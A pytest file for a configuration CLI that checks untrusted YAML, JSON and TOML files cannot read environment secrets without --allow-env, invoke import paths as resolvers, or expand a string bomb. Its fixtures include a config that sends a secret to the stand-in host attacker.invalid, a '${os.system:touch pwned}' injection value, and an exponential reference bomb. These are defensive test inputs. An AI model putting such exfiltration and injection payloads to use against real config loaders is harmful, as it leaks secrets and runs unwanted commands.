"""``${env:NAME}`` from an untrusted file: only variables named with ``--allow-env`` are read.

A YAML/JSON/TOML config run by the CLI is untrusted (safe mode). It must not copy a secret from
the environment into a URL, a log or the printed config: reading a variable the user did not
allow is an error (exit 2, one line naming the key path and the flag), even with a default.
``--unsafe`` and ``.py`` configs read any variable. Resolvers are found by name only, and
references cannot blow up the text they make.
"""

from __future__ import annotations

import subprocess
import textwrap
from pathlib import Path

import pytest
from _corelib_cli import run_corelib

SECRET = "s3cret-value-4711"

SINK = """
    class Sink:
        def __init__(self, url: str, extra: object = None) -> None:
            self.url = url
            self.extra = extra

        def run(self) -> str:
            return f"sent to {self.url}"
"""

EXFILTRATE = """
    main:
      _target_: sink.Sink
      url: "http://attacker.invalid/?k=${env:REF_SECRET}"
"""


@pytest.fixture
def workdir(tmp_path: Path) -> Path:
    (tmp_path / "sink.py").write_text(textwrap.dedent(SINK))
    return tmp_path


def write(directory: Path, name: str, text: str) -> str:
    (directory / name).write_text(textwrap.dedent(text))
    return name


def corelib(cwd: Path, *args: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    return run_corelib(cwd, *args, env={"REF_SECRET": SECRET, "REF_USER": "ada"}, timeout=timeout)


def refused(done: subprocess.CompletedProcess[str], *expected: str) -> None:
    """Exit 2 with one ``corelib: error:`` line holding ``expected``, and no secret anywhere."""
    assert done.returncode == 2, (done.stdout, done.stderr)
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("corelib: error: "), done.stderr
    for text in expected:
        assert text in lines[0], lines[0]
    assert SECRET not in done.stdout + done.stderr


def test_a_file_cannot_read_a_variable_it_was_not_allowed(workdir: Path) -> None:
    config = write(workdir, "exfiltrate.yaml", EXFILTRATE)
    done = corelib(workdir, "run", config, "--allow-import", "sink")
    refused(done, "exfiltrate.yaml", "at 'main.url'", "'REF_SECRET'", "--allow-env REF_SECRET")


def test_a_default_does_not_bypass_the_rule(workdir: Path) -> None:
    config = write(workdir, "default.yaml", EXFILTRATE.replace("REF_SECRET}", "REF_SECRET,none}"))
    refused(corelib(workdir, "run", config, "--allow-import", "sink"), "may not be read")


def test_allowing_one_variable_allows_that_one_only(workdir: Path) -> None:
    config = write(workdir, "exfiltrate.yaml", EXFILTRATE)
    done = corelib(workdir, "run", config, "--allow-import", "sink", "--allow-env", "REF_SECRET")
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == f"sent to http://attacker.invalid/?k={SECRET}"
    other = corelib(workdir, "run", config, "--allow-import", "sink", "--allow-env", "REF_USER")
    refused(other, "'REF_SECRET' may not be read", "allowed now: REF_USER")


@pytest.mark.parametrize("how", ["unsafe", "python"])
def test_trusted_configs_read_any_variable(workdir: Path, how: str) -> None:
    if how == "unsafe":
        args = [write(workdir, "exfiltrate.yaml", EXFILTRATE), "--unsafe"]
    else:
        source = "main = {'_target_': 'sink.Sink', 'url': 'http://x/${env:REF_SECRET}'}\n"
        args = [write(workdir, "trusted.py", source)]
    done = corelib(workdir, "run", *args)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip().endswith(SECRET)


@pytest.mark.parametrize("suffix", [".json", ".toml"])
def test_every_data_format_is_gated(workdir: Path, suffix: str) -> None:
    text = {
        ".json": '{"main": {"_target_": "sink.Sink", "url": "${env:REF_SECRET}"}}',
        ".toml": '[main]\n_target_ = "sink.Sink"\nurl = "${env:REF_SECRET}"\n',
    }[suffix]
    config = write(workdir, f"exfiltrate{suffix}", text)
    refused(corelib(workdir, "run", config, "--allow-import", "sink"), "at 'main.url'")


def test_show_resolved_and_check_obey_the_rule_too(workdir: Path) -> None:
    config = write(workdir, "exfiltrate.yaml", EXFILTRATE)
    shown = corelib(workdir, "show", config)
    assert shown.returncode == 0 and "${env:REF_SECRET}" in shown.stdout  # as written
    refused(corelib(workdir, "show", config, "--resolved"), "--allow-env REF_SECRET")
    allowed = corelib(workdir, "show", config, "--resolved", "--allow-env", "REF_SECRET")
    assert allowed.returncode == 0 and SECRET in allowed.stdout
    checked = corelib(workdir, "check", config, "--allow-import", "sink")
    assert checked.returncode == 2 and SECRET not in checked.stdout + checked.stderr
    assert "main.url" in checked.stdout and "--allow-env REF_SECRET" in checked.stdout


def test_an_import_path_is_not_a_resolver(workdir: Path) -> None:
    config = write(
        workdir,
        "gadget.yaml",
        """
        main:
          _target_: sink.Sink
          url: "${os.system:touch pwned}"
        """,
    )
    refused(
        corelib(workdir, "run", config, "--allow-import", "sink", "--unsafe"),
        "unknown resolver 'os.system'",
    )
    assert not (workdir / "pwned").exists()


def test_a_string_bomb_is_a_short_error_not_a_full_memory(workdir: Path) -> None:
    levels = "\n".join(f"s{n}: '${{s{n - 1}}}${{s{n - 1}}}'" for n in range(1, 64))
    config = write(workdir, "bomb.yaml", f"s0: xxxxxxxxxxxxxxxx\n{levels}\nmain: '${{s63}}'\n")
    done = corelib(workdir, "show", config, "--resolved", timeout=30)
    refused(done, "longer than 1,000,000 characters")
    assert len(done.stderr) < 1000


def test_main_may_refer_to_top_level_keys_and_show_draws_shared_nodes_once(
    workdir: Path,
) -> None:
    config = write(
        workdir,
        "refs.yaml",
        """
        site: "http://127.0.0.1:9"
        job:
          _target_: sink.Sink
          url: "${site}/api"
          extra: "${job_extra}"
        job_extra: {note: "\\\\${literal}"}
        main: "${job}"
        """,
    )
    done = corelib(workdir, "run", config, "--allow-import", "sink")
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "sent to http://127.0.0.1:9/api"
    shown = corelib(workdir, "show", config, "--resolved")
    assert shown.returncode == 0, shown.stderr
    assert "job: &" in shown.stdout and "main: *" in shown.stdout  # one node, an anchor
    assert "extra: &" in shown.stdout and "job_extra: *" in shown.stdout
    assert "\\${literal}" in shown.stdout  # still a literal when the output is run again


@pytest.mark.slow
@pytest.mark.distributed
@pytest.mark.timeout(120)
def test_workers_under_torchrun_get_the_allowed_variables(workdir: Path) -> None:
    config = write(workdir, "exfiltrate.yaml", EXFILTRATE)
    args = ["run", config, "--allow-import", "sink", "--nproc-per-node", "1"]
    refused(corelib(workdir, *args, timeout=100), "--allow-env REF_SECRET")
    done = corelib(workdir, *args, "--allow-env", "REF_SECRET", timeout=100)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip().endswith(SECRET)
